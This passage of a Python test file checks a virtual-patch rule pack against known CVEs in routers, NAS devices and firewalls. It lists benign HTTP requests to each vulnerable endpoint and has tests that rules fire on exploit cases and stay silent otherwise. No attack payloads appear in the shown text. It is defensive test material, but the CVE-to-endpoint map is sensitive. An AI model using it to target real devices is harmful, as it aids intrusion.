    ("CVE-2021-33045", req("/RPC2_Login", "POST", JSON,
                           b'{"method": "global.login", "params": {"userName": "admin", "password": "",'
                           b' "clientType": "Web3.0", "loginType": "Direct"}, "id": 1, "session": 0}')),
    ("CVE-2015-2051", req("/HNAP1/", "POST",
                          [("SOAPAction", '"http://purenetworks.com/HNAP1/GetDeviceSettings"')] + XML,
                          b'<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org'
                          b'/soap/envelope/"><soap:Body><GetDeviceSettings xmlns="http://purenetworks.com/HNAP1/" />'
                          b"</soap:Body></soap:Envelope>")),
    ("CVE-2019-16920", req("/apply_sec.cgi", "POST", FORM,
                           b"html_response_page=tools_vct.asp&action=ping_test&ping_ipaddr=www.example.com")),
    ("CVE-2020-25506", req("/cgi-bin/system_mgr.cgi?cmd=cgi_get_log_item&total=50")),
    ("CVE-2024-3272", req("/cgi-bin/nas_sharing.cgi?user=alice&passwd=cHc%3D&cmd=15")),
    ("CVE-2024-3273", req("/cgi-bin/nas_sharing.cgi?user=alice&passwd=cHc%3D&cmd=7&dir=/mnt/HD/HD_a2")),
    ("CVE-2014-8361", req("/picsdesc.xml", "POST", UPNP_HDR, UPNP_OK)),
    ("CVE-2014-8361", req("/picsdesc.xml", "GET", UA)),
    ("CVE-2017-17215", req("/ctrlt/DeviceUpgrade_1", "POST", XML, HUAWEI_OK)),
    ("CVE-2018-10561", req("/GponForm/LoginForm", "POST", FORM, b"XWebPageName=index&username=admin&password=pw")),
    ("CVE-2018-10561", req("/gallery.html?images=summer")),
    ("CVE-2018-10562", req("/GponForm/diag_Form", "POST", FORM,
                           b"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=8.8.8.8&ipv=0")),
    ("CVE-2016-6277", req("/cgi-bin/luci", "GET", UA)),
    ("CVE-2017-6077", req("/ping.cgi", "POST", FORM,
                          b"IPAddr1=8&IPAddr2=8&IPAddr3=8&IPAddr4=8&ping=Ping&ping_IPAddr=8.8.8.8")),
    ("CVE-2017-6334", req("/dnslookup.cgi", "POST", FORM, b"host_name=www.example.com&lookup=Lookup")),
    ("CVE-2023-1389", req("/cgi-bin/luci/;stok=/locale?form=country&operation=read")),
    ("CVE-2023-1389", req("/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=US")),
    ("CVE-2020-8515", req("/cgi-bin/mainfunction.cgi", "POST", FORM,
                          b"action=login&keyPath=24&loginUser=YWRtaW4%3D&loginPwd=cGFzcw%3D%3D&rtick=1712345678901")),
    ("CVE-2018-18472", req("/api/1.0/rest/language_configuration", "PUT", FORM, b"language=en_US")),
    ("CVE-2020-28188", req("/include/makecvs.php?Event=login", "GET", UA)),
    ("CVE-2021-20090", req("/images/logo.png", "GET", UA)),
    ("CVE-2021-20090", req("/js/util.js", "GET", UA)),
    # stop 20
    ("CVE-2024-55591", req("/ws/cli/open?cols=162&rows=100", "GET",
                           UA + [("Upgrade", "websocket"), ("Cookie", "APSCOOKIE_8443=Era%3D0%26Payload%3Dx")])),
    ("CVE-2023-20198-b", req("/webui/logoutconfirm.html", "POST", FORM + UA, b"")),
]


def _ids(rows):
    return ["+".join(sorted(r[0])) if isinstance(r[0], set) else r[0] for r in rows]


@pytest.mark.parametrize("expected,request_", EXPLOITS, ids=_ids(EXPLOITS))
def test_exploit_fires_its_rule(expected, request_):
    hits, mode = PACK.apply(request_, [])
    assert {h.rule for h in hits} == expected
    assert mode is None and all(h.type == "vpatch" and h.score >= 0.9 for h in hits)


@pytest.mark.parametrize("rule_id,request_", BENIGN, ids=_ids(BENIGN))
def test_normal_use_is_silent(rule_id, request_):
    assert PACK.apply(request_, []) == ([], None)


def test_every_rule_has_an_exploit_and_a_benign_case():
    ids = {r.id for r in PACK.rules}
    fired = set().union(*(e for e, _ in EXPLOITS))
    assert ids == fired
    assert ids == {rid for rid, _ in BENIGN}
